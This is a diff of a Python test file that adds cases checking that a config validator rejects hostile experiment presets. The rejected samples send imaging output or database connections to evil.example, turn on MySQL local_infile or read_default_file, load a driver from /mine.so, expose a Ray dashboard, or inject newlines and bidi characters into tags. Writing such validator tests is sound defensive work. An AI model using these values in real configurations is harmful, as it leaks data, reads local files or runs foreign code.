@@ -140,9 +140,7 @@ WAYS = ["run", "multirun", "notebook"]
 def ways(case: str, trace: Path) -> list[str]:
     """All where reading lets a preset pass, for it is each way's to refuse it later; else one of them in turn."""
     try:
-        read = JudgedFiles("test", f"file://{trace.parent}/presets").load_config("experiment/hostile")
-        assert isinstance(read, Written)
-        read.require_plain("")
+        _judged(trace)
     except (RequestError, OmegaConfBaseException):
         return [WAYS[[*HOSTILE].index(case) % 3]]
     return WAYS
@@ -212,6 +210,53 @@ def test_a_file_is_judged_by_the_place_where_it_is_composed(trace: Path) -> None
         chosen = f"{'' if group.startswith('hydra') else '+'}{group}=empty"
         assert run(["check", chosen, f"--config-dir={trace.parent}/placed"]) == 2
     assert not trace.exists()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "output: dicomweb://evil.example/rs",
+        "output: '${tags.a}'",
+        "input: ' DICOMweb+http://evil.example/rs/studies/1'",
+        "tracking: {uri: 'mysql+pymysql://evil.example/runs?local_infile=1'}",
+        "tracking: {uri: 'mysql+pymysql://evil.example/runs${tags.a}'}",
+        "storage: 'mssql+pyodbc:///?odbc_connect=DRIVER=/mine.so'",
+        "search: {storage: 'mysql://evil.example/study?read_default_file=/mine'}",
+        "hydra: {sweeper: {params: {+output: 'dicom://evil.example:104/EVIL'}}}",
+        "hydra: {sweeper: {params: {search: '{storage: mysql://evil.example/study?local_infile=1}'}}}",
+        "hydra: {sweeper: {params: {search: ['{storage: mysql://evil.example/study?local_infile=1}']}}}",
+        "hydra: {launcher: {ray: {init: {dashboard_host: 0.0.0.0}}}}",
+        "hydra: {launcher: {ray: {init: {include_dashboard: true}}}}",
+        "hydra: {launcher: {ray: {init: {address: 10.0.0.1}}}}",
+        "hydra: {launcher: {timeout_min: 1.2.3}}",
+        'tags: {"a\\nsrexp: forged": x}',
+        'tags: {"\\u202eb": x}',
+        'run_name: "a\\ud800b"',
+    ],
+)
+def test_no_preset_sends_images_elsewhere_or_opens_files_to_a_server(text: str, trace: Path) -> None:
+    preset(trace, text)
+    with pytest.raises(RequestError, match=r"hostile\.yaml, line 2: a"):
+        _judged(trace)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "input: scans\noutput: '${srexp.root:}/dicom'",
+        "tracking: {uri: 'postgresql://host/runs'}\nsearch: {storage: 'mysql+pymysql://host:3306/study'}",
+        "hydra: {launcher: {ray: {init: {num_cpus: 4}}, timeout_min: 1.5}, sweeper: {params: {experiment: 'a,b'}}}",
+    ],
+)
+def test_a_preset_leads_to_folders_and_stores(text: str, trace: Path) -> None:
+    preset(trace, text)
+    _judged(trace)
+
+
+def _judged(trace: Path) -> None:
+    read = JudgedFiles("test", f"file://{trace.parent}/presets").load_config("experiment/hostile")
+    assert isinstance(read, Written)
+    read.require_plain("")
 
 
 @pytest.mark.parametrize("text", PLAIN)
